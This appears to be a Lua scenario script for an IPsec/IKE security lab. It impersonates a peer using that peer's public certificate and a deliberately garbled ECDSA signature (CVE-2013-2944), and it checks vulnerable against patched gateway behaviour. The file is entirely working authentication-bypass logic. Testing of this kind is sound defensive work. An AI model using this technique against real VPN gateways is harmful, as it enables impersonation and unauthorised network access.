-- Certificates are public: they are shown to everybody who calls. What makes somebody their owner is the signature that only the private
-- key can make. A verifier that takes "I could not read this signature" for "it is right" gives that away.
attack = {
  id = "CVE-2013-2944", name = "certificate-thief",
  about = "Authenticates with somebody else's certificate and a signature that is no signature",
  position = "off-path",
  needs = "the victim's certificate, without its private key",
  source = "CVE-2013-2944; RFC 7427, 3",
  unseen = "the certificate and what stands in the signature's place are inside the encrypted IKE_AUTH; only the gateway can look at them",
  shows = {
    vulnerable = "the garbled signature counts: the gateway believes that the victim has called, and opens a tunnel",
    hardened = "the signature does not verify: AUTHENTICATION_FAILED",
  },
  scenarios = { vulnerable = "certificate-thief", hardened = "certificate-thief-patched" },
}

local caller = library "caller"

-- Parameters: target, own, victim = the node whose certificate it holds, id = its identity, first, last = addresses it asks for
local p, me = nil, nil
local goal = "be somebody else"

function on_start(params)
  p = params
  assert(p.target and p.own and p.victim and p.id, "parameters target, own, victim, id")
  timer.after("1s", "begin")
end
function on_timer() me = caller.call(p) end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if not me or not caller.answered(me, message) then return end
  -- ecdsa-with-SHA256 by name (RFC 7427, A.3.2), and eight octets that are no signature of any kind
  local identifier = bytes.from_hex("300a06082a8648ce3d040302")
  caller.request(me, 35, 1, { ike.id("i", 2, p.id), ike.cert(held("cert:" .. p.victim)),
    ike.auth(14, string.char(#identifier) .. identifier .. "garbage!"), caller.child(p.first or "10.8.0.66", p.last) },
    "IKE_AUTH with " .. p.victim .. "'s certificate and a garbled signature")
end)

on({ exchange = "IKE_AUTH", response = true }, function(packet)
  local inner = me and ring.open(packet)
  if not inner or me.done then return end
  me.done = true
  if notify_of(inner, "AUTHENTICATION_FAILED") then return achieved(goal, false, "AUTHENTICATION_FAILED: the signature was really looked at") end
  local id = find(inner, "IDr")
  learn("identity", id.id_type_name .. " " .. id.data .. " believes to talk to " .. p.id, "IKE_AUTH response opened", id.data)
  achieved(goal, true, "the gateway believes that " .. p.id .. " has called" .. (find(inner, "SA") and ", and opened a tunnel into its network" or ""))
end)

function on_finish()
  if not (me and me.done) then achieved(goal, false, "IKE_AUTH was not answered") end
end
